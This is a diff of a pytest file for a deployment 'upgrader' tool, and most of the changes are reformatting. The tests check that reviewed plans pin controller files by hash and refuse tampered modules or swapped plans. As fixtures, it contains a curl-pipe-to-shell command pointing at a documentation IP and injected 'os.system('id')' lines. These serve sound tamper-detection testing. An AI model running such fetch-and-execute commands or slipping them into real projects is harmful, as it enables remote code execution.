@@ -70,8 +70,10 @@ def connections(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
 def write_playbook(folder: Path, module: str = "verify/ordergw.py", **changes: Any) -> None:
     """The repo's ordergw playbook with a command check and a testinfra check, in ``folder``."""
     data = yaml.safe_load(PLAYBOOK.read_text())
-    data["checks"] += [{"name": "fetch-and-run", "command": {"argv": HOSTILE}},
-                       {"name": "operator-tests", "testinfra": {"file": module, "timeout": "30s"}}]
+    data["checks"] += [
+        {"name": "fetch-and-run", "command": {"argv": HOSTILE}},
+        {"name": "operator-tests", "testinfra": {"file": module, "timeout": "30s"}},
+    ]
     data.update(changes)
     (folder / "playbook.yml").write_text(yaml.safe_dump(data, sort_keys=False))
 
@@ -101,8 +103,10 @@ def sha(path: Path) -> str:
 
 def test_the_plan_pins_the_module_and_what_it_can_import(saved: Path) -> None:
     pinned = {f["path"]: f["sha256"] for f in json.loads(saved.read_text())["controller_files"]}
-    assert pinned == {"verify/helpers.py": sha(saved.parent / "verify" / "helpers.py"),
-                      "verify/ordergw.py": sha(saved.parent / "verify" / "ordergw.py")}
+    assert pinned == {
+        "verify/helpers.py": sha(saved.parent / "verify" / "helpers.py"),
+        "verify/ordergw.py": sha(saved.parent / "verify" / "ordergw.py"),
+    }
 
 
 def test_a_package_is_pinned_whole(in_tmp: Path) -> None:
@@ -121,21 +125,31 @@ def test_a_package_is_pinned_whole(in_tmp: Path) -> None:
     pb = load_playbook(in_tmp / "playbook.yml")
     assert import_root(package / "ordergw.py") == in_tmp
     assert [f.path for f in controller_files(pb.model, in_tmp)] == [
-        "sitehelper.py", "verify/__init__.py", "verify/lib/__init__.py", "verify/lib/util.py", "verify/ordergw.py"]
+        "sitehelper.py",
+        "verify/__init__.py",
+        "verify/lib/__init__.py",
+        "verify/lib/util.py",
+        "verify/ordergw.py",
+    ]
 
 
-@pytest.mark.reliability("a pinned testinfra module edited after the plan was reviewed",
-                         "apply PLAN.json refuses, naming the file, before any connection; exit 1")
-@pytest.mark.parametrize("change", ["edit the module", "edit a module it imports", "add a module beside it",
-                                    "remove a module it imports"])
+@pytest.mark.reliability(
+    "a pinned testinfra module edited after the plan was reviewed",
+    "apply PLAN.json refuses, naming the file, before any connection; exit 1",
+)
+@pytest.mark.parametrize(
+    "change", ["edit the module", "edit a module it imports", "add a module beside it", "remove a module it imports"]
+)
 def test_apply_refuses_a_changed_controller_file_before_connecting(
-        saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record,
-        change: str) -> None:
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record, change: str
+) -> None:
     verify = saved.parent / "verify"
-    named = {"edit the module": "verify/ordergw.py changed",
-             "edit a module it imports": "verify/helpers.py changed",
-             "add a module beside it": "verify/evil.py is new",
-             "remove a module it imports": "verify/helpers.py is gone"}
+    named = {
+        "edit the module": "verify/ordergw.py changed",
+        "edit a module it imports": "verify/helpers.py changed",
+        "add a module beside it": "verify/evil.py is new",
+        "remove a module it imports": "verify/helpers.py is gone",
+    }
     if change == "edit the module":
         (verify / "ordergw.py").write_text((verify / "ordergw.py").read_text() + "\nimport os; os.system('id')\n")
     elif change == "edit a module it imports":
@@ -148,21 +162,26 @@ def test_apply_refuses_a_changed_controller_file_before_connecting(
     assert code == 1, err
     assert named[change] in err and "nothing was contacted" in err, err
     assert connections == []
-    record_property("observed", f"{change}: exit {code}, {len(connections)} connection(s); "
-                    f"{err.strip().splitlines()[0][:150]}")
+    record_property(
+        "observed", f"{change}: exit {code}, {len(connections)} connection(s); {err.strip().splitlines()[0][:150]}"
+    )
 
 
-def test_an_unchanged_plan_gets_past_the_pins_to_the_hosts(saved: Path, connections: list[str],
-                                                           capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_unchanged_plan_gets_past_the_pins_to_the_hosts(
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
     """The refusal above is the pins' doing: untouched, the same plan goes on to connect."""
     _, err = apply(capsys)
     assert connections == ["pool"], err
 
 
-@pytest.mark.reliability("a saved plan written by the previous upgrader (schema 2, no pins)",
-                         "apply refuses with a clear 'plan again' error before any connection")
-def test_an_old_schema_plan_is_refused_clearly(saved: Path, connections: list[str],
-                                               capsys: pytest.CaptureFixture[str], record_property: Record) -> None:
+@pytest.mark.reliability(
+    "a saved plan written by the previous upgrader (schema 2, no pins)",
+    "apply refuses with a clear 'plan again' error before any connection",
+)
+def test_an_old_schema_plan_is_refused_clearly(
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record
+) -> None:
     data = json.loads(saved.read_text())
     data["schema_version"] = 2
     del data["controller_files"]
@@ -173,8 +192,7 @@ def test_an_old_schema_plan_is_refused_clearly(saved: Path, connections: list[st
     record_property("observed", f"exit {code}, {len(connections)} connection(s): {err.strip().splitlines()[0][:140]}")
 
 
-def test_every_command_is_shown_in_the_text_and_markdown_plans(saved: Path, capsys: pytest.CaptureFixture[str]
-                                                               ) -> None:
+def test_every_command_is_shown_in_the_text_and_markdown_plans(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline"]) == 0
     text = capsys.readouterr().out
     assert "check fetch-and-run (command)" in text and "/bin/sh -c 'curl -s https://203.0.113.9/x | sh'" in text
@@ -216,8 +234,10 @@ def test_diff_shows_a_changed_argv_and_a_changed_pin(saved: Path, capsys: pytest
     write_playbook(saved.parent, migrate={"command": ["{release}/bin/migrate-config", "--really"]})
     assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
     text = diff_lines(before, saved, capsys)
-    assert ("migrate to 5.2.0: runs /opt/ordergw/releases/5.2.0/bin/migrate-config --really instead of "
-            "/opt/ordergw/releases/5.2.0/bin/migrate-config") in text
+    assert (
+        "migrate to 5.2.0: runs /opt/ordergw/releases/5.2.0/bin/migrate-config --really instead of "
+        "/opt/ordergw/releases/5.2.0/bin/migrate-config"
+    ) in text
     assert "controller file verify/ordergw.py: content changed (sha256:" in text
     markdown = diff_lines(before, saved, capsys, "markdown")
     items = [t.content for t in MarkdownIt("commonmark").parse(markdown) if t.type == "inline"]
@@ -233,8 +253,10 @@ def test_diff_shows_a_command_checks_argv(saved: Path, capsys: pytest.CaptureFix
     (saved.parent / "playbook.yml").write_text(yaml.safe_dump(data, sort_keys=False))
     assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
     text = diff_lines(before, saved, capsys)
-    assert ("check fetch-and-run (command): runs /bin/sh -c 'curl -s https://203.0.113.9/y | sh'  # expects exit 0 "
-            "instead of /bin/sh -c 'curl -s https://203.0.113.9/x | sh'") in text
+    assert (
+        "check fetch-and-run (command): runs /bin/sh -c 'curl -s https://203.0.113.9/y | sh'  # expects exit 0 "
+        "instead of /bin/sh -c 'curl -s https://203.0.113.9/x | sh'"
+    ) in text
 
 
 def schedule_argv(saved: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> list[str]:
@@ -242,18 +264,36 @@ def schedule_argv(saved: Path, capsys: pytest.CaptureFixture[str], *extra: str) 
     artifacts = saved.parent / "store"
     artifacts.mkdir()
     (saved.parent / "units").mkdir(exist_ok=True)  # output paths are never created (loading/output.py)
-    assert main(["--state-dir", str(saved.parent / "sched-state"), "schedule", "plan.json", "-i", "inventory.yml",
-                 "--on", "2099-12-05 02:00 America/New_York", "--unit-dir", "units", "--artifacts", str(artifacts),
-                 *extra]) == 0
+    assert (
+        main(
+            [
+                "--state-dir",
+                str(saved.parent / "sched-state"),
+                "schedule",
+                "plan.json",
+                "-i",
+                "inventory.yml",
+                "--on",
+                "2099-12-05 02:00 America/New_York",
+                "--unit-dir",
+                "units",
+                "--artifacts",
+                str(artifacts),
+                *extra,
+            ]
+        )
+        == 0
+    )
     capsys.readouterr()
     service = (saved.parent / "units" / "upgrader-ordergw-5.2.0.service").read_text()
     exec_start = next(line for line in service.splitlines() if line.startswith("ExecStart="))
     words = exec_start.removeprefix("ExecStart=").split(" ")  # no quoting needed: tmp paths have no spaces
-    return words[words.index("upgrader") + 1:] if "upgrader" in words else words[1:]
+    return words[words.index("upgrader") + 1 :] if "upgrader" in words else words[1:]
 
 
 def test_the_scheduled_unit_carries_the_hash_state_dir_and_artifact_store(
-        saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    saved: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     argv = schedule_argv(saved, capsys)
     reviewed = json.loads(saved.read_text())["content_hash"]
     assert argv[:3] == ["--state-dir", str(saved.parent / "sched-state"), "apply"]
@@ -263,11 +303,13 @@ def test_the_scheduled_unit_carries_the_hash_state_dir_and_artifact_store(
     assert f"Environment=UPGRADER_STATE_DIR={saved.parent / 'sched-state'}\n" in service
 
 
-@pytest.mark.reliability("playbook and plan.json replaced (and re-planned) after `schedule PLAN.json`",
-                         "the timer's apply refuses the swapped plan before any connection; exit 1")
-def test_the_scheduled_unit_refuses_a_swapped_plan(saved: Path, connections: list[str],
-                                                   capsys: pytest.CaptureFixture[str], record_property: Record
-                                                   ) -> None:
+@pytest.mark.reliability(
+    "playbook and plan.json replaced (and re-planned) after `schedule PLAN.json`",
+    "the timer's apply refuses the swapped plan before any connection; exit 1",
+)
+def test_the_scheduled_unit_refuses_a_swapped_plan(
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record
+) -> None:
     argv = schedule_argv(saved, capsys)
     data = yaml.safe_load((saved.parent / "playbook.yml").read_text())
     data["canary"]["bake"] = "0s"  # the swap: no bake, a consistent new plan for it
@@ -282,11 +324,14 @@ def test_the_scheduled_unit_refuses_a_swapped_plan(saved: Path, connections: lis
 
 
 def test_the_scheduled_unit_checks_the_signature_when_a_key_is_given(
-        saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
     key = saved.parent / "plan.key"
     key.write_text("k" * 32)
-    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json",
-                 "--plan-key", str(key)]) == 0
+    assert (
+        main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json", "--plan-key", str(key)])
+        == 0
+    )
     argv = schedule_argv(saved, capsys, "--plan-key", str(key))
     assert argv[argv.index("--plan-key") + 1] == str(key)
     (saved.parent / "plan.json.sig").write_text("hmac-sha256:" + "0" * 64 + "\n")
@@ -300,16 +345,20 @@ def _pinned_module(folder: Path) -> tuple[Path, list[Any]]:
     (folder / "verify" / "helper.py").write_text("WHERE = __file__\n")
     (folder / "verify" / "mod.py").write_text(
         "import os\nfrom helper import WHERE\n\n\ndef test_where():\n"
-        "    with open(os.environ['WHERE_OUT'], 'w') as out:\n        out.write(__file__ + '\\n' + WHERE)\n")
+        "    with open(os.environ['WHERE_OUT'], 'w') as out:\n        out.write(__file__ + '\\n' + WHERE)\n"
+    )
     write_playbook(folder, module="verify/mod.py")
     pb = load_playbook(folder / "playbook.yml")
     return folder / "verify" / "mod.py", controller_files(pb.model, folder)
 
 
-@pytest.mark.reliability("a pinned testinfra file edited during the run, after apply checked the pins",
-                         "the check fails without running the module (no pytest process)")
-def test_a_module_edited_after_the_check_never_runs(in_tmp: Path, monkeypatch: pytest.MonkeyPatch,
-                                                    record_property: Record) -> None:
+@pytest.mark.reliability(
+    "a pinned testinfra file edited during the run, after apply checked the pins",
+    "the check fails without running the module (no pytest process)",
+)
+def test_a_module_edited_after_the_check_never_runs(
+    in_tmp: Path, monkeypatch: pytest.MonkeyPatch, record_property: Record
+) -> None:
     import subprocess
 
     from upgrader.engine.testinfra_check import run_module
@@ -319,16 +368,24 @@ def test_a_module_edited_after_the_check_never_runs(in_tmp: Path, monkeypatch: p
     (in_tmp / "verify" / "helper.py").write_text("import os; os.system('id')\n")  # between apply's check and now
     started: list[object] = []
     monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: started.append(a) or pytest.fail("pytest started"))
-    result = run_module(module, Endpoint("h1", "192.0.2.1"), component="ordergw", version="5.2.0", timeout=30,
-                        pinned=pinned, base=in_tmp)
-    assert not result.ok and result.error == "controller file verify/helper.py changed since the plan was reviewed; " \
-        "not run"
+    result = run_module(
+        module,
+        Endpoint("h1", "192.0.2.1"),
+        component="ordergw",
+        version="5.2.0",
+        timeout=30,
+        pinned=pinned,
+        base=in_tmp,
+    )
+    assert (
+        not result.ok
+        and result.error == "controller file verify/helper.py changed since the plan was reviewed; not run"
+    )
     assert started == []
     record_property("observed", f"ok={result.ok}; {result.error}; {len(started)} process(es) started")
 
 
-def test_the_module_runs_from_a_private_copy_of_the_pinned_files(in_tmp: Path, monkeypatch: pytest.MonkeyPatch
-                                                                 ) -> None:
+def test_the_module_runs_from_a_private_copy_of_the_pinned_files(in_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """Whatever changes in the playbook's directory while the module runs, Python imports the checked bytes."""
     from upgrader.engine.testinfra_check import run_module
     from upgrader.transport.base import Endpoint
@@ -336,8 +393,16 @@ def test_the_module_runs_from_a_private_copy_of_the_pinned_files(in_tmp: Path, m
     module, pinned = _pinned_module(in_tmp)
     out = in_tmp / "where.txt"
     monkeypatch.setenv("WHERE_OUT", str(out))
-    result = run_module(module, Endpoint("h1", "192.0.2.1"), component="ordergw", version="5.2.0", timeout=60,
-                        connect_timeout=1, pinned=pinned, base=in_tmp)
+    result = run_module(
+        module,
+        Endpoint("h1", "192.0.2.1"),
+        component="ordergw",
+        version="5.2.0",
+        timeout=60,
+        connect_timeout=1,
+        pinned=pinned,
+        base=in_tmp,
+    )
     assert result.ok, result
     ran, helper = out.read_text().splitlines()
     assert ran.endswith("/src/verify/mod.py") and helper.endswith("/src/verify/helper.py")
@@ -356,8 +421,9 @@ def test_diff_reads_a_plan_of_the_previous_schema(saved: Path, capsys: pytest.Ca
     assert "controller file verify/ordergw.py: now pinned (sha256:" in text
 
 
-def test_plan_hash_belongs_to_a_saved_plan(saved: Path, connections: list[str],
-                                           capsys: pytest.CaptureFixture[str]) -> None:
+def test_plan_hash_belongs_to_a_saved_plan(
+    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
     reviewed = json.loads(saved.read_text())["content_hash"]
     assert main(["apply", "playbook.yml", "-i", "inventory.yml", "--yes", "--plan-hash", reviewed]) == 1
     assert "--plan-hash names a saved plan's hash" in capsys.readouterr().err
